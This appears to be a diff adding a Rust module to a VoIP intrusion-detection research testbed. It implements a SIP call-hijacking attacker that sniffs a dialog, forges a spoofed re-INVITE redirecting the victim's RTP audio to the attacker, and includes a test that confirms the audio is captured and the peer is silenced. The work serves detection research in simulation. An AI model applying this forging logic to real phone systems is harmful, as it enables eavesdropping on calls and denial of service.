@@ -1,0 +1,263 @@
+//! The call-hijacking attack (paper §4.2.3, Figure 7).
+//!
+//! The attacker forges a re-INVITE to A claiming B's media endpoint
+//! moved — to an address the attacker controls. A redirects its RTP
+//! there; B hears silence (a DoS) and the attacker can listen to A's
+//! side of the conversation (a confidentiality breach). B's own RTP
+//! keeps arriving at A: the orphan flow SCIDIVE keys on.
+
+use crate::sniff::DialogSniffer;
+use scidive_netsim::node::{Node, NodeCtx, TimerToken};
+use scidive_netsim::packet::IpPacket;
+use scidive_netsim::time::{SimDuration, SimTime};
+use scidive_sip::header::{CSeq, HeaderName, NameAddr, Via};
+use scidive_sip::method::Method;
+use scidive_sip::msg::{RequestBuilder, SipMessage};
+use scidive_sip::sdp::SessionDescription;
+use scidive_sip::uri::SipUri;
+use std::any::Any;
+use std::net::Ipv4Addr;
+
+const TOK_FIRE: TimerToken = 1;
+
+/// Configuration of the hijacker.
+#[derive(Debug, Clone)]
+pub struct HijackConfig {
+    /// The attacker's address (where hijacked media will be redirected).
+    pub attacker_ip: Ipv4Addr,
+    /// The attacker's RTP listening port.
+    pub attacker_rtp: u16,
+    /// The victim (client A) — receives the forged re-INVITE.
+    pub victim_ip: Ipv4Addr,
+    /// The impersonated peer (client B).
+    pub peer_ip: Ipv4Addr,
+    /// The victim's AOR (caller side).
+    pub caller_aor: String,
+    /// The impersonated peer's AOR (callee side).
+    pub callee_aor: String,
+    /// How long after call setup to strike.
+    pub delay_after_established: SimDuration,
+    /// Spoof the IP source as the peer.
+    pub spoof_ip: bool,
+}
+
+impl HijackConfig {
+    /// A standard config.
+    pub fn new(
+        attacker_ip: Ipv4Addr,
+        victim_ip: Ipv4Addr,
+        peer_ip: Ipv4Addr,
+        delay: SimDuration,
+    ) -> HijackConfig {
+        HijackConfig {
+            attacker_ip,
+            attacker_rtp: 7000,
+            victim_ip,
+            peer_ip,
+            caller_aor: "alice@lab".to_string(),
+            callee_aor: "bob@lab".to_string(),
+            delay_after_established: delay,
+            spoof_ip: true,
+        }
+    }
+}
+
+/// The hijacker node.
+#[derive(Debug)]
+pub struct Hijacker {
+    config: HijackConfig,
+    sniffer: DialogSniffer,
+    fired: bool,
+    /// When the forged re-INVITE left.
+    pub fired_at: Option<SimTime>,
+    /// Hijacked RTP packets captured at the attacker (proof the
+    /// redirection worked).
+    pub stolen_rtp: u64,
+}
+
+impl Hijacker {
+    /// Creates the attacker.
+    pub fn new(config: HijackConfig) -> Hijacker {
+        let sniffer = DialogSniffer::new(config.caller_aor.clone(), config.callee_aor.clone());
+        Hijacker {
+            config,
+            sniffer,
+            fired: false,
+            fired_at: None,
+            stolen_rtp: 0,
+        }
+    }
+
+    fn forge_reinvite(&self) -> SipMessage {
+        let d = self.sniffer.dialog();
+        let target = d
+            .caller_contact
+            .clone()
+            .unwrap_or_else(|| SipUri::new("alice", self.config.victim_ip.to_string()));
+        let mut from = NameAddr::new(
+            format!("sip:{}", self.config.callee_aor).parse().expect("aor uri"),
+        );
+        if let Some(tag) = &d.callee_tag {
+            from = from.with_tag(tag);
+        }
+        let mut to = NameAddr::new(
+            format!("sip:{}", self.config.caller_aor).parse().expect("aor uri"),
+        );
+        if let Some(tag) = &d.caller_tag {
+            to = to.with_tag(tag);
+        }
+        // "B has moved to the attacker's address."
+        let sdp = SessionDescription::audio_offer(
+            "bob",
+            self.config.attacker_ip,
+            self.config.attacker_rtp,
+        );
+        let mut b = RequestBuilder::new(Method::Invite, target);
+        b.from(from)
+            .to(to)
+            .call_id(&d.call_id)
+            .cseq(CSeq::new(d.invite_cseq + 100, Method::Invite))
+            .via(Via::udp(
+                format!("{}:5060", self.config.peer_ip),
+                "z9hG4bK-forged-reinvite",
+            ))
+            .header(
+                HeaderName::Contact,
+                NameAddr::new(
+                    SipUri::new("bob", self.config.attacker_ip.to_string()).with_port(5060),
+                )
+                .to_string(),
+            )
+            .body("application/sdp", sdp.to_string());
+        b.build()
+    }
+}
+
+impl Node for Hijacker {
+    fn on_packet(&mut self, ctx: &mut NodeCtx<'_>, pkt: IpPacket) {
+        let Ok(udp) = pkt.decode_udp() else {
+            return;
+        };
+        // Count media redirected to us.
+        if pkt.dst == self.config.attacker_ip && udp.dst_port == self.config.attacker_rtp {
+            self.stolen_rtp += 1;
+            return;
+        }
+        if self.fired {
+            return;
+        }
+        if udp.dst_port != 5060 && udp.src_port != 5060 {
+            return;
+        }
+        let Ok(msg) = SipMessage::parse(&udp.payload) else {
+            return;
+        };
+        if self.sniffer.observe(&msg) {
+            ctx.set_timer(self.config.delay_after_established, TOK_FIRE);
+        }
+    }
+
+    fn on_timer(&mut self, ctx: &mut NodeCtx<'_>, token: TimerToken) {
+        if token != TOK_FIRE || self.fired || !self.sniffer.is_established() {
+            return;
+        }
+        self.fired = true;
+        self.fired_at = Some(ctx.now());
+        let reinvite = self.forge_reinvite();
+        let src = if self.config.spoof_ip {
+            self.config.peer_ip
+        } else {
+            self.config.attacker_ip
+        };
+        ctx.send(IpPacket::udp(
+            src,
+            5060,
+            self.config.victim_ip,
+            5060,
+            reinvite.to_bytes(),
+        ));
+    }
+
+    fn as_any(&self) -> &dyn Any {
+        self
+    }
+
+    fn as_any_mut(&mut self) -> &mut dyn Any {
+        self
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use scidive_netsim::link::LinkParams;
+    use scidive_voip::events::UaEventKind;
+    use scidive_voip::scenario::TestbedBuilder;
+
+    #[test]
+    fn reinvite_redirects_a_media_to_attacker() {
+        let mut tb = TestbedBuilder::new(21)
+            .standard_call(SimDuration::from_millis(500), None)
+            .build();
+        let ep = tb.endpoints.clone();
+        let cfg = HijackConfig::new(
+            ep.attacker_ip,
+            ep.a_ip,
+            ep.b_ip,
+            SimDuration::from_millis(1_000),
+        );
+        let attacker = tb.add_node(
+            "attacker",
+            ep.attacker_ip,
+            LinkParams::lan(),
+            Box::new(Hijacker::new(cfg)),
+        );
+        tb.run_for(SimDuration::from_secs(5));
+
+        // A retargeted its media to the attacker.
+        assert!(tb.a_events().iter().any(|e| matches!(
+            &e.kind,
+            UaEventKind::MediaRetargeted { target, port, .. }
+                if *target == ep.attacker_ip && *port == 7000
+        )));
+        // The attacker actually captured A's audio.
+        let atk = tb.sim.node_as::<Hijacker>(attacker).unwrap();
+        assert!(atk.fired_at.is_some());
+        assert!(atk.stolen_rtp > 50, "stolen_rtp={}", atk.stolen_rtp);
+        // B's orphan RTP keeps arriving at A after the forged re-INVITE.
+        let fired_at = atk.fired_at.unwrap();
+        let orphan = tb
+            .sim
+            .trace()
+            .records()
+            .iter()
+            .filter(|r| {
+                r.time > fired_at
+                    && r.packet.src == ep.b_ip
+                    && r.packet.dst == ep.a_ip
+                    && r.packet
+                        .decode_udp()
+                        .map(|u| u.dst_port == ep.a_rtp)
+                        .unwrap_or(false)
+            })
+            .count();
+        assert!(orphan > 10, "orphan RTP packets: {orphan}");
+        // B experiences silence: no more RTP from A to B after hijack
+        // (aside from packets already in flight).
+        let to_b_after = tb
+            .sim
+            .trace()
+            .records()
+            .iter()
+            .filter(|r| {
+                r.time > fired_at + SimDuration::from_millis(100)
+                    && r.packet.dst == ep.b_ip
+                    && r.packet
+                        .decode_udp()
+                        .map(|u| u.dst_port == ep.b_rtp)
+                        .unwrap_or(false)
+            })
+            .count();
+        assert_eq!(to_b_after, 0, "B still receives RTP after hijack");
+    }
+}
